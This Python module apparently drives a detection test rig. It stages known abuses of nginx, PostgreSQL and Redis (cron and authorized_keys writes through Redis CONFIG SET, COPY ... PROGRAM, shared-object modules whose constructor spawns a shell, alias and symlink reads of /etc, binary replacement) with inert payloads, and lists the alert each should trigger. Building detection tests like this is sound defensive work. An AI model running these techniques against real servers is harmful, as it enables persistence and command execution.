"""Misuses of the daemons on the stage that need no exploit, with inert content.

Each is done by an administrator's or client's ordinary means: a statement, a command, a link, a changed configuration.
The shell that is started runs `exit 0`; what is written to /etc/cron.d (a memory file system here) or to
authorized_keys is a database without any such line; the module is a shared object whose constructor starts that shell.
"""
import collections
import os
import shutil
import socket
import subprocess
import tempfile
import threading

import load as loads
import stage

LISTENER_PORT = 9999
HOOK = '/srv/hook.so'

# name, which daemon, what must be prepared, what is done; `explained`: what the alert must name
Misuse = collections.namedtuple('Misuse', 'name kind prepare act explained')


class Listener(threading.Thread):
    """Takes connections and closes them: the peer that no daemon has ever talked to."""

    def __init__(self):
        super().__init__(daemon=True)
        self.socket = socket.socket()
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.socket.bind(('127.0.0.1', LISTENER_PORT))
        self.socket.listen(8)
        self.start()

    def run(self):
        while True:
            try:
                peer, _ = self.socket.accept()
            except OSError:
                return
            peer.close()


listener = None


def listen(_):
    global listener
    listener = listener or Listener()


def build_hook(_):
    source = ('#include <spawn.h>\n#include <sys/wait.h>\n'
              '__attribute__((constructor)) static void hook(void)\n{\n'
              '    char *words[] = {"sh", "-c", "exit 0", 0};\n    pid_t pid;\n'
              '    if (posix_spawn(&pid, "/bin/sh", 0, 0, words, words + 3) == 0)\n        waitpid(pid, 0, 0);\n}\n')
    subprocess.run(['cc', '-shared', '-fPIC', '-x', 'c', '-', '-o', HOOK], input=source, text=True, check=True)
    os.chmod(HOOK, 0o755)


def get(load, path):
    try:
        load.request(path)
    except (OSError, loads.http.client.HTTPException):
        load.drop()


def nothing(_):
    pass


# ---- nginx ----

def outside_link(load):
    os.symlink('/etc/hostname', '/var/www/html/readme.txt')
    get(load, '/readme.txt')


def other_config(_):
    """Another server's configuration, readable to all."""
    if not os.path.exists('/etc/redis/redis.conf'):
        stage.write('/etc/redis/redis.conf', 'port 6379\n')


def outside_alias(load):
    load.unit.extra = 'location /files/ { alias /etc/redis/; }'
    load.unit.configure()
    load.unit.reload()
    stage.until('the new configuration', lambda: get_status(load, '/files/redis.conf') == 200)


def get_status(load, path):
    try:
        return load.request(path)[0]
    except (OSError, loads.http.client.HTTPException):
        load.drop()
        return None


def web_outbound(load):
    load.unit.extra = f'location /api/ {{ proxy_pass http://127.0.0.1:{LISTENER_PORT}/; }}'
    load.unit.configure()
    load.unit.reload()
    stage.until('the new configuration', lambda: get_status(load, '/api/') == 502)


def web_shell(load):
    load.unit.main = f'load_module {HOOK};'
    load.unit.configure()
    load.unit.signal(stage.signal.SIGHUP)  # the running master reads it; it refuses the module that has run already


# ---- PostgreSQL ----

def sql(statement, check=True):
    return lambda load: load.unit.sql(statement, check=check)


def copy_key(load):
    stage.make_dir('/var/lib/postgresql/.ssh', 'postgres')
    load.unit.sql("copy (select 'inert') to '/var/lib/postgresql/.ssh/authorized_keys'")


# ---- Redis ----

def redis_save(folder, name):
    def act(load):
        load.unit.ask('CONFIG', 'SET', 'dir', folder)
        load.unit.ask('CONFIG', 'SET', 'dbfilename', name)
        load.unit.ask('SAVE')
    return act


def redis_keys(_):
    stage.make_dir('/var/lib/redis/.ssh', 'redis')


# ---- any ----

def another_build(program, out):
    """The program with another build id: what a rebuilt or patched one has."""
    shutil.copy(program, out)
    data = bytearray(open(out, 'rb').read())
    start = data.find(b'GNU\0', data.find(b'\x04\0\0\0\x14\0\0\0\x03\0\0\0'))
    if start < 0:
        raise RuntimeError(program + ' has no build id')
    for i in range(start + 4, start + 24):
        data[i] ^= 0x5a
    with open(out, 'r+b') as f:
        f.write(data)


def replaced(load):
    program = os.path.realpath(load.unit.program)
    other = tempfile.mktemp(dir='/srv')
    another_build(program, other)
    os.chmod(other, 0o755)
    load.unit.stop()
    subprocess.run(['mount', '--bind', other, program], check=True)
    load.unit.start()


def restore(unit):
    unit.stop()
    subprocess.run(['umount', os.path.realpath(unit.program)], check=True)


MISUSES = [
    Misuse('outside-link', stage.Nginx, nothing, outside_link, 'link /var/www/html/ to /etc/'),
    Misuse('outside-alias', stage.Nginx, other_config, outside_alias, 'read /etc/redis/'),
    Misuse('outbound', stage.Nginx, listen, web_outbound, 'inet loopback 9999'),
    Misuse('shell', stage.Nginx, build_hook, web_shell, '/bin/sh'),
    Misuse('replaced', stage.Nginx, nothing, replaced, 'no upgrade of a package explains it'),
    Misuse('copy-to-program', stage.Postgresql, nothing, sql("copy notes to program 'cat >/dev/null'"), '/bin/sh'),
    Misuse('copy-from-program', stage.Postgresql, nothing, sql("copy notes (text) from program 'hostname'"), '/bin/sh'),
    Misuse('outside-read', stage.Postgresql, other_config, sql("copy notes (text) from '/etc/redis/redis.conf'"),
           'read /etc/redis/'),
    Misuse('key-file', stage.Postgresql, nothing, copy_key, 'authorized_keys'),
    Misuse('outbound', stage.Postgresql, listen, sql(
        "create extension dblink; select dblink_connect('host=127.0.0.1 port=9999 user=x dbname=x')", check=False),
           'inet loopback 9999'),
    Misuse('replaced', stage.Postgresql, nothing, replaced, 'no upgrade of a package explains it'),
    Misuse('cron-file', stage.Redis, nothing, redis_save('/etc/cron.d', 'inert'), 'directory /etc/cron.d'),
    Misuse('key-file', stage.Redis, redis_keys, redis_save('/var/lib/redis/.ssh', 'authorized_keys'), 'authorized_keys'),
    Misuse('outbound', stage.Redis, listen, lambda load: load.unit.ask('REPLICAOF', '127.0.0.1', str(LISTENER_PORT)),
           'inet loopback 9999'),
    Misuse('shell', stage.Redis, build_hook, lambda load: load.unit.ask('MODULE', 'LOAD', HOOK), '/bin/sh'),
    Misuse('replaced', stage.Redis, nothing, replaced, 'no upgrade of a package explains it'),
]


def undo(misuse, load):
    """The daemon as it was, for the next misuse."""
    if misuse.act is replaced:
        restore(load.unit)
        load.unit.start()
    elif misuse.kind is stage.Nginx:
        load.unit.extra = load.unit.main = ''
        load.unit.configure()
        load.unit.reload()
    elif misuse.name == 'outbound' and misuse.kind is stage.Redis:
        load.unit.ask('REPLICAOF', 'NO', 'ONE')


def record_one(misuse, options, recorder_of, labels_of):
    scene = stage.Stage([misuse.kind])
    unit = scene.units[0]
    load = None
    try:
        name = f'{options.folder}/{unit.name.split(".")[0]}.{misuse.name}'
        misuse.prepare(None)
        recorder = recorder_of(options.build, [unit], [name + '.trace'])
        unit.start()
        labels = labels_of(name + '.labels')
        labels.add('begin')
        load = loads.make(unit, options.seed)
        load.start()
        load.halt.wait(12)
        labels.add('misuse')
        misuse.act(load)
        labels.add('misuse over')
        load.halt.wait(6)
        labels.add('end')
        load.finish()
        load = None
        print(name, recorder.stop(), flush=True)
        if misuse.act is replaced:
            restore(unit)
    finally:
        if load:
            load.halt.set()
        scene.close()


def record(options, recorder_of, labels_of):
    for misuse in MISUSES:
        label = misuse.kind.name.split('.')[0] + '.' + misuse.name
        if options.names and label not in options.names:
            continue
        stage.build_stage()
        record_one(misuse, options, recorder_of, labels_of)
